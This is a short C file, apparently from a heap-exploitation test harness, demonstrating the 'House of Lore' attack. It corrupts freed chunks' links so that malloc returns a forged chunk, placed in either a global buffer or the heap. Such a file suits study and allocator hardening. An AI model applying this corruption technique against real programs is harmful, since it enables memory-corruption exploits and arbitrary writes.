/* house_of_lore.c - a binned chunk's links lead to a fake chunk, which the second malloc
 * is to return. The fake is linked back. */
#include "attack.h"

static void lore(char *fake)
{
    void *a = take(BINNED), *wall1 = take(24), *b = take(BINNED);
    (void)wall1;
    wall();
    give(a);
    give(b);
    size_t size = size_of(b);
    for (unsigned i = 0; i < 2; i++) { /* a ring: a - fake - b */
        void *real = i == 0 ? a : b;
        poke(real, 0, (size_t)fake);
        poke(real, WORD, (size_t)fake);
    }
    poke(fake, WORD, size | P);
    poke(fake, 2 * WORD, chunk(a));
    poke(fake, 3 * WORD, chunk(b));
    if (PREY_BYTES > size)
        poke(fake, (ptrdiff_t)size, size);
    go_on(BINNED, 20);
}

static void in_prey(void) { lore((char *)prey.words); }

static void in_heap(void)
{
    char *home = take(3 * BINNED);
    wall();
    lore(home + 32);
}

ATTACK(in_prey, in_heap)
